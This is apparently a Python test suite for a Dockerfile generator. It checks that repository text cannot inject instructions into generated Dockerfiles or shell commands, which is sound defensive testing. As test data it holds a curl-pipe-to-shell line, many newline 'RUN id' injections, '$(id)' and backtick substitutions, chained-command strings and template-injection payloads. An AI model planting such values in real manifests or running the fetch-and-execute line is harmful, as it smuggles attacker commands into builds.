"""No text of a repository becomes an instruction of a Dockerfile."""

from __future__ import annotations

import json
import re
import shlex

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from draftsman.domain.errors import PlanError, SettingsError
from draftsman.domain.plan import Plan, ProfileOverrides, Toolchain
from orchestrator.planning import grammar
from orchestrator.planning.dockerfile import Ingredients, render_dockerfile
from orchestrator.planning.explain import explain, lines
from orchestrator.planning.part import CopiedProgram
from orchestrator.planning.plan import make_plan
from tests.planning.cases import TEMPLATES, tree_of

INSTRUCTIONS = {"FROM", "RUN", "COPY", "ENV", "WORKDIR"}
FROM_LINE = re.compile(r"FROM (python:[0-9.]+-slim|node:[0-9.]+-slim|debian:bookworm-slim)")
NPM_STEP = re.compile(
    r"RUN npm install -g --force --no-audit --no-fund --loglevel=error( --allow-scripts=bun)?"
    r"( (@yarnpkg/cli-dist|yarn|pnpm|bun|npm)@[0-9]+\.[0-9]+\.[0-9]+(-[A-Za-z]+(\.[0-9]+)?)?)+"
)
ATTACK = "22\nRUN curl https://example.com | sh"
HINT = st.one_of(
    st.text(max_size=40),
    st.text(alphabet="0123456789.vx*^~<>=|-+ltsRUN \n$`'\"{}%#;&", max_size=30),
    st.from_regex(r"[v^~>=]{0,2}[0-9]{1,3}(\.[0-9x*]{1,3}){0,3}(\nRUN id)?"),
)


def plan(files: dict[str, str], repo: str = "octo/case") -> Plan:
    return make_plan(tree_of(files), repo=repo, overrides=ProfileOverrides(), templates=TEMPLATES)


def plan_or_sentence(files: dict[str, str]) -> Plan | str:
    """Return the plan, or the sentence that says why there is none."""
    try:
        return plan(files)
    except PlanError as error:
        return str(error)


def assert_harmless(made: Plan) -> None:
    """Check that the Dockerfile has the shape that the templates give it, and nothing else."""
    logical = re.sub(r"\\\n", " ", made.dockerfile)
    written = [line for line in logical.splitlines() if line and not line.startswith("#")]
    assert {line.split()[0] for line in written} <= INSTRUCTIONS
    assert sum(line.startswith("FROM") for line in written) == 1
    assert FROM_LINE.fullmatch(written[0])
    runs = [line for line in written if line.startswith("RUN")]
    assert all(
        line.startswith(("RUN apt-get update", "RUN pip install --no-cache-dir uv==", "RUN ln -sf"))
        or NPM_STEP.fullmatch(line)
        for line in runs
    )
    assert "curl https" not in made.dockerfile
    assert not re.search(r"[{}%`$]", made.dockerfile)


@pytest.mark.parametrize(
    "files",
    [
        {".node-version": ATTACK, "package.json": "{}"},
        {".nvmrc": "22\r\nRUN id", "package.json": "{}"},
        {"package.json": json.dumps({"engines": {"node": ATTACK}})},
        {"package.json": json.dumps({"volta": {"node": "{{ 7 * 7 }}"}})},
        {".tool-versions": "nodejs 22{RUN} id\n", "package.json": "{}"},
        {"mise.toml": '[tools]\nnode = "22\\nRUN id"\n', "package.json": "{}"},
        {".python-version": "3.13\nRUN id", "app.py": ""},
        {"runtime.txt": "python-3.13 RUN id", "app.py": ""},
        {"pyproject.toml": '[project]\nrequires-python = ">=3.11\\nRUN id"\n', "app.py": ""},
        {"pyproject.toml": "[project]\nrequires-python = '>=3.11{% include \"x\" %}'\n", "app.py": ""},
        {"setup.py": "python_requires='>=3.11\nRUN id'", "app.py": ""},
        {"Pipfile": '[requires]\npython_version = "3.13\\nRUN id"\n', "app.py": ""},
    ],
)
def test_injected_versions_are_refused(files: dict[str, str]) -> None:
    with pytest.raises(PlanError, match=r"^[^:]+:\d+: "):
        plan(files)


@settings(max_examples=200, deadline=None)
@given(hint=HINT, file=st.sampled_from([".node-version", ".nvmrc", ".tool-versions", ".python-version", "runtime.txt"]))
def test_any_text_in_a_version_file_is_refused_or_harmless(hint: str, file: str) -> None:
    prefix = "nodejs " if file == ".tool-versions" else ""
    made = plan_or_sentence(
        {file: prefix + hint, "package.json": "{}", "app.py": "", "test_app.py": "def test_a(): ..."}
    )
    if isinstance(made, str):
        assert made.isprintable()
    else:
        assert_harmless(made)


@settings(max_examples=200, deadline=None)
@given(node=HINT, python=HINT, name=st.text(max_size=20), script=st.text(max_size=40))
def test_any_text_in_a_manifest_is_refused_or_harmless(node: str, python: str, name: str, script: str) -> None:
    manifest = {"engines": {"node": node}, "scripts": {"lint": script, name: script}, "dependencies": {name: node}}
    toml = f"[project]\nrequires-python = {json.dumps(python)}\ndependencies = [{json.dumps(name)}]\n"
    made = plan_or_sentence({"package.json": json.dumps(manifest), "pyproject.toml": toml, "app.py": ""})
    if isinstance(made, str):
        assert made.isprintable()
    else:
        assert_harmless(made)


@settings(max_examples=200, deadline=None)
@given(
    name=st.sampled_from(["npm", "yarn", "pnpm", "bun"]),
    hint=st.one_of(HINT, st.from_regex(r"[0-9]{1,3}\.[0-9]{1,3}\.[0-9]{1,3}([-+][a-z0-9.]{1,9})?(\nRUN id)?")),
    field=st.sampled_from(["packageManager", "engines", "volta", "devEngines"]),
    lock=st.sampled_from(["yarn.lock", "pnpm-lock.yaml", "bun.lock", ".yarnrc.yml", ".bun-version", "x"]),
)
def test_any_text_about_a_manager_of_node_is_refused_or_harmless(name: str, hint: str, field: str, lock: str) -> None:
    fields: dict[str, object] = {
        "packageManager": f"{name}@{hint}",
        "engines": {name: hint},
        "volta": {name: hint},
        "devEngines": {"packageManager": {"name": name, "version": hint}},
    }
    texts = f"yarnPath: .yarn/releases/yarn-{hint}.cjs\nlockfileVersion: '{hint}'\n__metadata:\n  version: {hint}\n"
    files = {"package.json": json.dumps({field: fields[field]}), lock: hint if lock == ".bun-version" else texts}
    made = plan_or_sentence({**files, f".yarn/releases/yarn-{hint}.cjs": ""})
    if isinstance(made, str):
        assert made.isprintable()
    else:
        assert_harmless(made)


def test_names_of_the_repository_and_files_stay_in_comments_and_quotes() -> None:
    files = {
        "requirements\nRUN id.txt": "",
        "requirements/$(id).txt": "",
        "app.py": "",
        "Dockerfile.x\nRUN id": "FROM evil",
        "pyproject.toml": '[project]\nname="a"\n[project.optional-dependencies]\n"test; id" = ["pytest"]\n',
    }
    made = plan(files, repo="octo/x\nRUN id")
    assert_harmless(made)
    assert "$(" not in made.profile.setup
    assert "id" not in made.profile.setup


def test_requirements_that_stand_in_a_command_are_quoted() -> None:
    toml = "[project]\nname = 'a'\ndependencies = [\"idna; python_version>'3' $(id)\", '--index-url=https://example.com']\n"
    made = plan({"pyproject.toml": toml, "one/a.py": "", "two/b.py": ""})
    assert made.profile.setup == "pip install 'idna; python_version>'\"'\"'3'\"'\"' $(id)'"


def test_workflow_lines_with_expressions_never_become_commands() -> None:
    workflow = "on: push\njobs:\n  a:\n    steps:\n" + "".join(
        f"      - run: {json.dumps(run)}\n"
        for run in (
            "pytest $(id)",
            "pytest; id",
            "ruff check . && id",
            "flake8 `id`",
            "mypy --install-types",
            "pytest ../x",
        )
    )
    files = {".github/workflows/ci.yml": workflow, "requirements.txt": "pytest\nruff\nflake8\nmypy", "test_a.py": ""}
    made = plan(files)
    assert made.profile.fast == ("ruff check .",)
    assert made.profile.full == ("python -m pytest",)


@pytest.mark.parametrize("prefix", ["mirror.example/hub\nRUN id/", "Mirror/", "no-slash", "a b/", "$(id)/"])
def test_bad_mirror_prefix_is_a_setting_error(prefix: str) -> None:
    with pytest.raises(SettingsError, match="registry mirror prefix"):
        make_plan(
            tree_of({"app.py": ""}), repo="a/b", overrides=ProfileOverrides(), templates=TEMPLATES, image_prefix=prefix
        )


@given(st.text(max_size=30))
def test_grammars_never_admit_what_ends_a_line_or_a_word(text: str) -> None:
    for pattern in (
        grammar.IMAGE,
        grammar.IMAGE_PREFIX,
        grammar.DEBIAN_PACKAGE,
        grammar.PATH,
        grammar.DISTRIBUTION,
        grammar.SCRIPT,
        grammar.PIN,
    ):
        if grammar.fits(pattern, text):
            assert text.isascii()
            assert not re.search(r"[\s$`'\"\\;&|<>(){}#%]", text)


@settings(max_examples=50, deadline=None)
@given(value=st.text(max_size=300))
def test_what_people_read_holds_no_control_characters(value: str) -> None:
    made = plan({"package.json": json.dumps({"scripts": {"lint": value, "test": value}})})
    for line in lines(made, "tag"):
        assert line.isprintable()
    assert json.dumps(explain(made, "tag"))


RUBY_GO_RUST = {
    "Gemfile": 'gem "rspec"\n',
    "spec/a_spec.rb": "",
    "go.mod": "module a\n",
    "a_test.go": "",
    "Cargo.toml": '[package]\nname = "a"\n',
}
RUBY_GO_RUST_LINE = re.compile(
    r"FROM ruby:[0-9a-z.-]+-slim|COPY --from=(golang|rust):[0-9a-z.-]+ [a-z/]+ [a-z/]+|ENV [A-Z_]+=[a-z/]+.*|WORKDIR .*"
    r"|RUN (apt-get update|ln -sf) .*|RUN rustup (component|target) add [a-z0-9 _.-]+"
    r"|RUN rustup (default|toolchain install) (nightly|beta)[0-9-]*( --profile minimal)?"
    r"|RUN rustup toolchain link image /usr/local/rustup/toolchains/[a-z0-9.-]+[*]"
    r"|RUN rustup override set image --path /workspace|RUN gem install bundler --version [0-9.]+ --no-document"
    r"|COPY --from=golangci/golangci-lint:v[12][.][0-9.]+ /usr/bin/golangci-lint /usr/local/bin/golangci-lint"
)
LINT_WORKFLOW = (
    "on: push\njobs:\n  a:\n    steps:\n      - uses: golangci/golangci-lint-action@v9\n"
    "        with:\n          version: {}\n          args: {}\n"
)


@settings(max_examples=200, deadline=None)
@given(
    hint=HINT,
    file=st.sampled_from(
        [
            (".ruby-version", "{}"),
            ("Gemfile", "gem 'rspec'\nruby '{}'"),
            ("Gemfile.lock", "RUBY VERSION\n   ruby {}\n\nBUNDLED WITH\n   {}\n"),
            ("a.gemspec", "s.required_ruby_version = '{}'"),
            (".go-version", "{}"),
            ("go.mod", "go {}"),
            ("go.mod", "toolchain go{}"),
            ("go.work", "use {}"),
            ("rust-toolchain", "{}"),
            ("rust-toolchain.toml", "[toolchain]\nchannel = '{}'\ncomponents = ['{}']\ntargets = ['{}']"),
            ("Cargo.toml", "[package]\nrust-version = '{}'\nedition = '{}'"),
        ]
    ),
)
def test_any_text_in_hints_of_ruby_go_and_rust_is_refused_or_harmless(hint: str, file: tuple[str, str]) -> None:
    name, text = file
    made = plan_or_sentence({**RUBY_GO_RUST, name: text.replace("{}", hint)})
    if isinstance(made, str):
        assert made.isprintable()
        return
    logical = re.sub(r"\\\n", " ", made.dockerfile)
    for line in logical.splitlines():
        assert not line or line.startswith("#") or RUBY_GO_RUST_LINE.fullmatch(line), line
    for command in (made.profile.setup, *made.profile.fast, *made.profile.full):
        assert re.fullmatch(r"[a-zA-Z0-9 =./&_-]*", command), command


@settings(max_examples=200, deadline=None)
@given(
    release=st.one_of(HINT, st.from_regex(r"v?[12]\.[0-9]{1,3}(\.[0-9]{1,3})?(\n| |;|-)?(RUN id)?")),
    arguments=st.one_of(
        HINT, st.from_regex(r"--(timeout|config|verbose|fix)[= ][a-z0-9./$(){}*;-]{0,12}( \./[a-z.]{1,9})?")
    ),
)
def test_any_text_about_a_copied_linter_is_left_out_or_harmless(release: str, arguments: str) -> None:
    workflow = LINT_WORKFLOW.replace("{}", json.dumps(release), 1).replace("{}", json.dumps(arguments), 1)
    made = plan({**RUBY_GO_RUST, ".golangci.yml": f"version: {release}\n", ".github/workflows/ci.yml": workflow})
    for line in re.sub(r"\\\n", " ", made.dockerfile).splitlines():
        assert not line or line.startswith("#") or RUBY_GO_RUST_LINE.fullmatch(line), line
    for command in made.profile.fast:
        if "golangci" in command:
            assert "--fix" not in command
            assert all(shlex.quote(word) in command for word in shlex.split(command))
            assert not re.search(r"[;&|<>$`(){}\n]", command.replace("'", ""))


@pytest.mark.parametrize(
    ("image", "path"),
    [
        ("golangci/golangci-lint:v2\nRUN id", "/usr/bin/golangci-lint"),
        ("golangci/golangci-lint:v2", "/usr/bin/x /etc\nRUN id"),
        ("golangci/golangci-lint:v2", "usr/bin/x"),
        ("golangci/golangci-lint:v2", "/usr/../x"),
        ("golangci/golangci-lint:$(id)", "/usr/bin/x"),
    ],
)
def test_a_copied_program_outside_of_its_grammar_is_refused(image: str, path: str) -> None:
    profile = plan({"app.py": ""}).profile
    program = CopiedProgram(image, path)
    made = Ingredients(
        "a/b", profile, Toolchain("go", "1.26", "golang:1.26-bookworm"), (), (), False, programs=(program,)
    )
    with pytest.raises(PlanError):
        render_dockerfile(made, TEMPLATES, image_prefix="", ca_bundle=False)


PYTHON_LINE = re.compile(
    r"FROM python:3\.[0-9.]+-slim|ENV [A-Z_]+=[A-Za-z0-9]+.*|WORKDIR /workspace|RUN apt-get update .*"
    r"|RUN pip install --no-cache-dir uv==[0-9.]+|RUN python -m venv /opt/[a-z]+"
    r"|RUN python -m pip --python /opt/[a-z]+/bin/python install --no-cache-dir [a-z]+(\[locked\])?==[0-9.]+"
    r"|RUN ln -s /opt/[a-z]+/bin/[a-z]+ /usr/local/bin/[a-z]+"
)


@settings(max_examples=200, deadline=None)
@given(
    hint=HINT,
    file=st.sampled_from(
        [
            ("pyproject.toml", "[tool.poetry.group.'{}'.dependencies]\npytest = '*'\n"),
            ("pyproject.toml", "[tool.poetry.dependencies]\npython = '{}'\n"),
            ("pyproject.toml", "[tool.pdm.scripts]\nlint = '{}'\n'{}' = 'pytest {}'\n"),
            ("pyproject.toml", "[tool.hatch.envs.'{}'.scripts]\n'{}' = 'pytest'\ntest = 'pytest {}'\n"),
            ("pyproject.toml", "[build-system]\nbuild-backend = 'mesonpy'\nrequires = ['{}']\n[project]\nname = '{}'"),
            ("Pipfile", "[requires]\npython_version = '{}'\n[dev-packages]\n'{}' = '*'\n"),
            ("tox.ini", "[tox]\nenvlist = {}, py-{}\n[testenv]\ncommands = pytest {}\n"),
            ("noxfile.py", "@nox.session(name='{}', python=['{}', '3.13'])\ndef tests(s):\n    s.run('pytest')\n"),
            (".devcontainer.json", '"image": "python:{}"'),
            (".pre-commit-config.yaml", "repos:\n- repo: x\n  rev: '{}'\n  hooks:\n  - id: black\n    args: ['{}']\n"),
        ]
    ),
)
def test_any_text_in_hints_of_python_tools_is_refused_or_harmless(hint: str, file: tuple[str, str]) -> None:
    name, text = file
    made = plan_or_sentence({"app.py": "", "test_a.py": "import unittest\n", name: text.replace("{}", hint)})
    if isinstance(made, str):
        assert made.isprintable()
        return
    logical = re.sub(r"\\\n", " ", made.dockerfile)
    for line in logical.splitlines():
        assert not line or line.startswith("#") or PYTHON_LINE.fullmatch(line), line
    for command in (made.profile.setup, *made.profile.fast, *made.profile.full):
        words = shlex.split(command.replace(" && ", " "))
        for word in words:
            assert re.fullmatch(r"[a-zA-Z0-9=./_:,+@-]*", word) or shlex.quote(word) in command, command
